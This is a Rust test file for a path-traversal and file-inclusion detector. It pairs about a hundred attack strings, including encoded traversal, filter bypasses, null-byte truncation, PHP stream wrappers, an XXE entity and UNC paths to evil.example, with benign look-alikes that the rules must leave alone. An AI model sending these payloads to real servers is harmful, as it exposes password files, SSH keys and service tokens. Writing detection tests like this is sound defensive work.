//! What the rules find, what they leave alone, and that none of them is idle.

use super::RULES;
use crate::regex::RegexSet;

/// One row for each shape of an attack.
const ATTACKS: &[&str] = &[
    // Steps up and nothing else.
    "../../secret.yml",
    "..\\..\\web.config",
    "/../../../boot",
    "images/../../../../flag",
    "file=../../conf/app.ini",
    "C:\\data\\..\\..\\x",
    "./../../x.txt",
    "../..//../x",
    "../../../../../../../../../../dev/null",
    "/static/../app/../keys.pem",
    // Within a text.
    "GET /../../../../../../../../flag HTTP/1.1",
    "please open ..\\..\\..\\..\\..\\..\\x for me",
    // Up to a secret.
    "../etc/passwd",
    "show ../etc/shadow please",
    "../.env",
    "../.git/config",
    "/download?f=../wp-config.php",
    "..\\windows\\win.ini",
    "../WEB-INF/web.xml",
    "see /var/www/images/../../../etc/passwd",
    "../../../proc/self/environ",
    "../.ssh/id_rsa and more",
    "a=1&b=../root/.bash_history",
    // Encoded.
    "..%2f..%2fsecret",
    "%2e%2e%2fapp.ini",
    "%2e%2e/app.ini",
    ".%2e/app.ini",
    "%252e%252e%252fapp.ini",
    "..%252fapp.ini",
    "..%5capp.ini",
    "..%c0%afapp.ini",
    "%c0%ae%c0%ae/app.ini",
    "..%u2215app.ini",
    "%uff0e%uff0e/app.ini",
    "..%ef%bc%8fapp.ini",
    "\u{ff0e}\u{ff0e}/app.ini",
    "..\u{2215}app.ini",
    "..%%32%66app.ini",
    "%%32%65%%32%65/app.ini",
    "..0x2fapp.ini",
    "..%00/app.ini",
    "..\\u002fapp.ini",
    "..%c1%9capp.ini",
    // Uncovered by a filter.
    "....//....//flag",
    "....\\\\....\\\\flag",
    ".../..././flag",
    "/app/..;/manager/html",
    "/x/..;a=b/admin",
    "..\\/..\\/flag",
    "../\\flag",
    "....//etc/passwd",
    // A secret by its absolute name.
    "/etc/passwd",
    "//etc//shadow",
    "/./etc/passwd",
    "file=/etc/passwd%00.png",
    "/etc/passwd\0.jpg",
    "/proc/self/environ",
    "/proc/1/cmdline",
    "/root/.ssh/authorized_keys",
    "/home/alice/.ssh/id_rsa",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/log/apache2/access.log",
    "C:\\boot.ini",
    "c:/windows/win.ini",
    "\\windows\\system32\\config\\SAM",
    "C:\\WINDOWS\\System32\\drivers\\etc\\hosts",
    "C:\\inetpub\\wwwroot\\web.config",
    "/WEB-INF/web.xml",
    "%2fetc/passwd&x=1",
    // The same, encoded.
    "x=%2fetc%2fpasswd&y",
    "a %252fetc%252fshadow b",
    "%5cwindows%5cwin.ini",
    // A name cut off.
    "report.php%00.jpg",
    "shell.php\0.png",
    "index.jsp%00",
    "config.yml%2500",
    "a.asp\\x00.gif",
    "upload/x%00.html#top",
    // Wrappers of PHP.
    "php://filter/convert.base64-encode/resource=index.php",
    "page=PHP://FILTER/read=string.rot13/resource=a",
    "php://input",
    "expect://id",
    "phar://upload/a.jpg/x",
    "zip://a.zip%23x.php",
    "compress.zlib://a.gz",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==",
    "p=data:text/plain,<?php phpinfo();",
    "glob:///var/www/*",
    // Wrappers of others.
    "file:///etc/passwd",
    "<!ENTITY x SYSTEM \"file:///etc/hosts\">",
    "url=file://localhost/etc/passwd",
    "file:///c:/windows/win.ini",
    "file:////server/share/x",
    "file%3a%2f%2f/proc/self/environ",
    "netdoc:///tmp/x",
    "jar:http://evil.example/a.jar!/b",
    "local_file:///app/key",
    // Shares and devices of Windows.
    "\\\\10.0.0.1\\c$\\users",
    "\\\\evil.example@80\\a\\b",
    "\\\\evil.example@SSL\\DavWWWRoot\\a",
    "\\\\.\\PhysicalDrive0",
    "\\\\?\\GLOBALROOT\\Device\\HarddiskVolume1",
    "%5C%5Cevil.example%5Ca",
    "\\\\203.0.113.9\\pub\\a.dll",
    "path=\\\\srv\\ADMIN$",
];

/// What honest people and their programs say.
const LOOK_ALIKES: &[&str] = &[
    // Prose.
    "well... // never mind",
    "and so on..../ whatever",
    "wait.....//.....what?",
    "hmm.. / ok.. / fine..",
    "either/or ../ both",
    "100%.. / 50%",
    "Paris\\London..\\Rome",
    "He lives at 12/3.. etc/ and so on",
    "the passwd file in /etc holds users, /etc/passwd to be exact",
    "is /etc/shadow readable? no.",
    "edit /etc/hosts and add a line",
    "cat /etc/os-release",
    "что-то../или нет",
    "等等../或者",
    "the null byte %00 ends a string in C",
    "php: filter the input",
    "open the file: it's on the share",
    "expect: //todo",
    "3.00%00",
    "zip code: //10115",
    "phar lap; glob of goo",
    "my .env is missing, see .env.example",
    "never commit .ssh/id_rsa or .aws/credentials",
    "proc, self, and other words",
    // What developers say.
    "import x from '../../utils/x'",
    "const a = require(\"../../../lib/a\");",
    "import Foo from '../../../components/Foo'; // see ../README.md",
    "cd ../../build && make",
    "cp ../../a.txt ./b.txt",
    "#include \"../../include/a.h\"",
    "use super::super::x; // ../../x.rs",
    "[docs](../../docs/intro.md)",
    "<img src=\"../../logo.png\">",
    "url('../../fonts/a.woff2')",
    "git diff main../feature",
    "git log a..b -- src/",
    "for i in 0..10 { }",
    "for i in 0../2 {}",
    "let [a, ...b] = [...c, ...d];",
    "/^(\\.\\.\\/)+/",
    "re = r\"\\.\\.[\\\\/]\"",
    "go test ./...",
    "bazel build //foo/...",
    "ls ../",
    "mount -t cifs //server/share /mnt",
    "file_get_contents('php://input')",
    "fopen(\"php://stdout\", \"w\")",
    "at Object.<anonymous> (/home/alice/app/../lib/a.js:1:2)",
    "docker run -v /etc/passwd:/etc/passwd:ro img",
    "COPY ../a /b",
    "chmod 600 ~/.ssh/id_rsa",
    "printf(\"%d\\0\", x);",
    "char a[] = \"x\\0y\";",
    "strlen(\"abc\\x00def\")",
    "Cargo.toml: path = \"../core\"",
    "1..=2, ..3, 4.., ..",
    // Machine text.
    "../notes.txt",
    "./a/b/c.txt",
    "../",
    "..",
    "...",
    "a/../b",
    "https://example.com/a/../b?x=../y",
    "https://example.com/?next=%2Fhome%2Fuser",
    "https://example.com/a%20b/%2e/c",
    "https://example.com/100%25/2f",
    "file:///home/alice/project/src/main.rs",
    "file:///C:/Users/alice/project/main.ts",
    "file:///Users/alice/etc/notes.txt",
    "C:\\Users\\alice\\Documents\\a.txt",
    "C:\\Program Files\\Git\\bin\\git.exe",
    "\\\\fileserver\\public\\report.docx",
    "\\\\192.168.1.10\\scans",
    "\\\\nas.local\\media\\film.mkv",
    "\\\\?\\C:\\Users\\alice",
    "\\\\wsl$\\Ubuntu\\home",
    "/home/alice/.config/app/settings.json",
    "/etc/nginx/nginx.conf",
    "/usr/share/zoneinfo/etc/UTC",
    "/var/log/syslog",
    "src/main/webapp/index.html",
    "node_modules/.bin/..",
    "data:text/plain;charset=utf-8;base64,aGVsbG8= is a URL",
    "data:image/png;base64,iVBORw0KGgo=",
    "SEND\ndestination:/queue/a\n\nhello\0",
    "CONNECT\naccept-version:1.2\nhost:example.com\n\n\0",
    "info_hash=%124Vx%9A%BC%DE%F1%23%00%EF",
    "alice@example.com",
    "550e8400-e29b-41d4-a716-446655440000",
    "Li4vLi4vZXRjL3Bhc3N3ZA==",
    "2024/01/02..2024/03/04",
    "s3://bucket/a/b",
];

fn set(rules: &[(&str, &str)]) -> RegexSet {
    RegexSet::new(rules.iter().map(|(_, pattern)| *pattern)).unwrap()
}

/// Whether each of `texts` is found, or none of them.
#[track_caller]
fn check(texts: &[&str], found: bool) {
    let rules = set(RULES);
    let name = |text: &str| rules.first_match(text).map(|index| RULES[index].0);
    let wrong: Vec<_> = texts.iter().map(|text| (text, name(text))).filter(|row| row.1.is_some() != found).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn attacks_are_found() {
    check(ATTACKS, true);
}

#[test]
fn look_alikes_are_left_alone() {
    check(LOOK_ALIKES, false);
}

#[test]
fn every_rule_finds_what_the_others_miss() {
    for (index, (name, _)) in RULES.iter().enumerate() {
        let others = set(&[&RULES[..index], &RULES[index + 1..]].concat());
        assert!(ATTACKS.iter().any(|text| others.first_match(text).is_none()), "{name} finds nothing by itself");
    }
}
